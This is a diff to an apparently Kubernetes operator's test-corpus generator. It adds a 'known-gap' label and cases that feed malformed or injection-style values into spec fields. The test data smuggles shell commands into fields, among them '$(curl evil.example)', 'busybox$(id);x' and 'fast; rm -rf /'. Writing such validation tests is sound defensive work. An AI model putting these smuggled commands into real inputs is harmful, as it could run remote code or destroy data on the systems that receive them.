@@ -5,6 +5,9 @@ header saying what must happen to it:
     # expect: invalid-spec: <substring of the core's message>            (admitted; Ready=False InvalidSpec)
     # expect: accepted                                                  (admitted and valid: inert data)
     # expect: ready                                                     (the valid sample of the operator run)
+    # expect: known-gap: <what goes wrong>     (admitted and valid for the core, but a child is then refused
+                                               by the apiserver: reported to the core, pinned here so a fix
+                                               shows up as a failure to re-label)
 
 The YAML files are the corpus (tests/integration/test_corpus.py reads them, never this script); this script
 only saves typing them. Run ``python tests/corpus/generate.py`` after changing a case here.
@@ -366,6 +369,25 @@ case(
     "a thirdParty.url with $(…)",
     _set("uuc.thirdParty.url", "$(curl evil.example)"),
     "invalid-spec: spec.uuc.thirdParty.url",
+)
+case("inject-image-subshell", "an image with $(…) and ; (no blank)", _set("auth.image", "busybox$(id);x"), "accepted")
+case(
+    "gap-storageclass-injection",
+    "a storageClassName with shell syntax",
+    _set("mysql.storage", {"size": "1Gi", "storageClassName": "fast; rm -rf /"}),
+    "known-gap: PVC refused (RFC 1123 subdomain)",
+)
+case(
+    "gap-files-key-dotdot",
+    "a file named ..data",
+    _set("trd-adapter.files", {"..data": "x"}),
+    "known-gap: ConfigMap refused (key must not start with '..')",
+)
+case(
+    "gap-storage-size-negative",
+    "a claim size of -1Gi",
+    _set("mysql.storage", {"size": "-1Gi"}),
+    "known-gap: PVC refused (negative quantity)",
 )
 case(
     "ready-injections-inert",
